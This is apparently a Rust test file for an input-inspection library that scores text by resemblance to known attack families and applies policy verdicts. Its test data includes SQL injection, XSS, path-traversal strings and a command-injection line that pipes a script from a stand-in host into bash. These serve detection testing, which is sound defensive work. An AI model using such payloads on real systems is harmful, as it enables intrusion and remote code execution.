//! How much a text resembles known attacks, and what a policy knows of a parameter: witnesses among the rules.

use hauberk_core::inspection::{Inspection, inspect};
use hauberk_core::judge::Action;
use hauberk_core::policy::{Mode, Policy};
use hauberk_core::scan::{features, scan, scores};
use proptest::prelude::*;
use serde_json::json;

const SQL: usize = 0;
const MARKUP: usize = 1;
const COMMAND: usize = 2;
const PATH: usize = 3;

fn inspected(value: &str, parameters: &serde_json::Value) -> Inspection {
    let policy =
        json!({"hauberk": 1, "function": "any", "mode": "prevent", "parameters": parameters});
    let policy = Policy::read(policy.to_string().as_bytes()).expect("a policy");
    inspect(json!({ "q": value }).to_string().as_bytes(), &policy)
}

#[test]
fn attacks_resemble_their_family_more_than_any_harmless_text() {
    let attacks = [
        (
            SQL,
            "-5') union all select 1,concat(0x71,version()),null,null#",
        ),
        (SQL, "x' and 7=7 or 'q' like 'q"),
        (MARKUP, "\"><svg/onload=prompt`9`>"),
        (
            MARKUP,
            "<details open ontoggle=top[8680439..toString(30)](2)>",
        ),
        (COMMAND, "a;curl http://x.example/s.sh|bash #"),
        (COMMAND, "`ping -c 4 192.0.2.7`"),
        (PATH, "..%2f..%2f..%2f..%2fetc%2fpasswd%00.jpg"),
        (PATH, "....//....//....//boot.ini"),
    ];
    let harmless = [
        "..",
        "It's 5 or 6 o'clock -- I'd say; bring the cat & the dog!",
        "SELECT name, price FROM products WHERE price > 10 ORDER BY name",
        "<p>Dear <b>customer</b>,<br>thanks &amp; see you</p>",
        "https://shop.example/items?page=2&sort=price#top",
        "const total = items.map((item) => item.price).reduce(add, 0);",
        "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    ];
    let of =
        |text: &str, family: usize| scores(text.as_bytes()).map_or(f32::MIN, |all| all[family]);
    for (family, attack) in attacks {
        for text in harmless {
            assert!(of(attack, family) > of(text, family), "{attack} < {text}");
        }
    }
}

#[test]
fn what_spoke_is_told_as_it_stands_in_the_text() {
    // A run of digits is one `0`, letters are lower; blanks at the ends and single signs are left out.
    let rows = [
        ("../../../../etc/passwd", "in `..`, `etc/passwd`"),
        ("1' OR '1'='1", "in `0' or '0'='0`"),
        (
            "zz' oR 3=3 aNd 'q' liKe 'q' uNion sElect nUll,nUll #",
            "in `' or 0=0 and '`, `select`",
        ),
        ("a plain text", ""),
    ];
    for (text, expected) in rows {
        let told = inspected(text, &json!({}));
        let reasons: Vec<_> = told.detections.iter().map(|one| &*one.reason).collect();
        let alike = reasons
            .iter()
            .find_map(|one| one.split_once("it resembles known attacks "));
        assert_eq!(alike.map_or("", |one| one.1), expected, "{reasons:?}");
    }
}

#[test]
fn a_text_that_is_alike_alone_is_never_blocked() {
    for hit in scan(b"zz' oR qq lIke qq rLike (sElect qq) pRocedure qq #") {
        let is_alone = hit.rules.iter().all(|rule| rule.starts_with("resembles-"));
        assert!(!is_alone || hit.confidence < 90, "{hit:?}");
    }
}

#[test]
fn a_parameter_lowers_indicators_and_no_structure() {
    // what is sent          lowered there                         verdict
    let rows = [
        ("formula", "=1+1-cmd", json!({}), Action::Allow),
        ("structure", "1' or '1'='1", json!({}), Action::Block),
        (
            "structure",
            "1' or '1'='1",
            json!({"sql-injection": 0, "tautology": 0}),
            Action::Block,
        ),
        (
            "indicator",
            "hello to all of you; wget -q x",
            json!({}),
            Action::Alert,
        ),
        (
            "indicator",
            "hello to all of you; wget -q x",
            json!({"shell-injection": 0, "resembles-shell-injection": 0}),
            Action::Allow,
        ),
    ];
    for (name, value, lowered, expected) in rows {
        let parameters = json!({"q": {"lowered": lowered}});
        let verdict = inspected(value, &parameters).verdict;
        assert_eq!(verdict, expected, "{name}: {value} {parameters}");
        let elsewhere = json!({"other": {"lowered": lowered}});
        let unchanged = inspected(value, &json!({})).verdict;
        assert_eq!(inspected(value, &elsewhere).verdict, unchanged, "{value}");
    }
}

#[test]
fn a_value_of_a_shape_never_seen_there_is_one_witness_more() {
    let value = "hello to all of you; wget -q x";
    let confidence = |parameters| inspected(value, &parameters).detections[0].confidence;
    let plain = confidence(json!({}));
    let usual = confidence(json!({"q": {"length": [1, 60], "alphabet": "a ;-"}}));
    let unusual = confidence(json!({"q": {"length": [1, 5], "alphabet": "a"}}));
    assert!(
        plain == usual && usual < unusual && unusual < 90,
        "{plain} {usual} {unusual}"
    );
}

#[test]
fn a_harmless_value_of_a_shape_never_seen_is_unusual_and_nothing_else() {
    let parameters = json!({"q": {"type": "integer", "alphabet": "0", "length": [1, 4]}});
    let inspection = inspected("Anna Smith-Jones", &parameters);
    let told: Vec<&str> = inspection
        .detections
        .iter()
        .map(|one| one.detector)
        .collect();
    assert_eq!(
        (inspection.verdict, told),
        (Action::Alert, vec!["unusual-input"])
    );
}

#[test]
fn the_built_in_policy_knows_of_no_parameter() {
    assert!(!Policy::built_in(Mode::Prevent).has_parameters());
}

proptest! {
    #[test]
    fn any_text_has_its_features_once_and_in_order(text in prop::collection::vec(any::<u8>(), 0..600)) {
        let found = features(&text);
        prop_assert!(found.windows(2).all(|pair| pair[0] < pair[1]));
        prop_assert_eq!(found.is_empty(), scores(&text).is_none());
    }
}

#[test]
fn what_is_not_shown_is_not_told_by_its_n_grams() {
    let policy = Policy::built_in(Mode::Prevent);
    let event = json!({"password": "zz' oR 3=3 aNd 'q' liKe 'q' uNion sElect nUll,nUll #"});
    let told = inspect(event.to_string().as_bytes(), &policy);
    assert!(!told.detections.is_empty());
    for detection in &told.detections {
        assert!(
            !detection.reason.contains("resembles"),
            "{}",
            detection.reason
        );
    }
}
